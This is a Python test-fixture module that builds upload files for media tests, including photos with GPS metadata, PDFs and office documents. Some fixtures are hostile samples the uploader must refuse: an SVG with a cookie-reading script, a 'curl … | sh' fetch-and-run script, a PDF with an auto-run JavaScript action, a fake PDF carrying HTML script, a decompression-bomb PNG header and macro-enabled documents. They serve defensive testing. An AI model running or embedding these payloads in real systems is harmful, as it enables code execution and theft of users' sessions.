"""Files the media tests upload, made in memory: photos with the metadata cameras
write, PDFs and office documents, and the files that must be refused."""

import io
import struct
import zipfile
import zlib

from PIL import Image as PillowImage
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

GPS_IFD = 0x8825
MAKE = 0x010F
ORIENTATION = 0x0112
XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description '
    b'photoshop:City="Kourou"/></rdf:RDF></x:xmpmeta>'
)


def picture(width=640, height=480, mode="RGB"):
    """Return a picture with some detail in it (a gradient and a block)."""
    image = PillowImage.linear_gradient("L").resize((width, height)).convert(mode)
    image.paste(
        (200, 40, 40) if mode == "RGB" else 255, (10, 10, width // 3, height // 4)
    )
    return image


def camera_exif(orientation=1):
    """Return EXIF as a camera writes it: its make, where the photo was taken."""
    exif = PillowImage.Exif()
    exif[MAKE] = "Canon"
    exif[ORIENTATION] = orientation
    exif[GPS_IFD] = {1: "N", 2: (5.0, 9.0, 34.0), 3: "W", 4: (52.0, 38.0, 59.0)}
    return exif


def jpeg(width=640, height=480, *, exif=None, comment=b"", xmp=b"", quality=90):
    output = io.BytesIO()
    options = {"quality": quality}
    if exif is not None:
        options["exif"] = exif.tobytes()
    if comment:
        options["comment"] = comment
    if xmp:
        options["xmp"] = xmp
    picture(width, height).save(output, "JPEG", **options)
    return output.getvalue()


def jpeg_with_gps(width=640, height=480):
    """Return a JPEG carrying GPS coordinates, a comment and XMP."""
    return jpeg(width, height, exif=camera_exif(), comment=b"Shot at home", xmp=XMP)


def png(width=320, height=200, *, text=None, exif=None):
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    for key, value in (text or {}).items():
        info.add_text(key, value)
    output = io.BytesIO()
    options = {"pnginfo": info}
    if exif is not None:
        options["exif"] = exif.tobytes()
    picture(width, height).save(output, "PNG", **options)
    return output.getvalue()


def gif():
    output = io.BytesIO()
    picture(40, 30).convert("P").save(output, "GIF")
    return output.getvalue()


def png_header_only(width, height):
    """Return a PNG that claims ``width`` x ``height`` pixels in a few bytes: the
    start of a decompression bomb."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
    b'height="10"><script>alert(document.cookie)</script></svg>'
)
SCRIPT = b"#!/bin/sh\ncurl https://example.org/x | sh\n"


def pdf(pages=1, *, javascript=None, password=None):
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    if javascript:  # run when the document opens
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject(javascript),
            }
        )
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if password:
        writer.encrypt(password, algorithm="RC4-128")
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


FAKE_PDF = b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n"

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>{extra}'
    "</Types>"
)
DOCX_MAIN = (
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
)
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def docx(main=DOCX_MAIN, *, macros=False):
    output = io.BytesIO()
    extra = ""
    if macros:
        extra = (
            '<Override PartName="/word/vbaProject.bin" '
            'ContentType="application/vnd.ms-office.vbaProject"/>'
        )
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml", CONTENT_TYPES.format(main=main, extra=extra)
        )
        archive.writestr("word/document.xml", "<w:document/>")
        if macros:
            archive.writestr("word/vbaProject.bin", b"\0macro")
    return output.getvalue()


def odt(*, macros=False):
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr(
            zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text"
        )
        archive.writestr("content.xml", "<office:document-content/>")
        archive.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
        if macros:
            archive.writestr("Basic/Standard/Module1.xml", "<script:module/>")
    return output.getvalue()


def plain_zip():
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("run.sh", SCRIPT)
    return output.getvalue()


OLD_WORD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
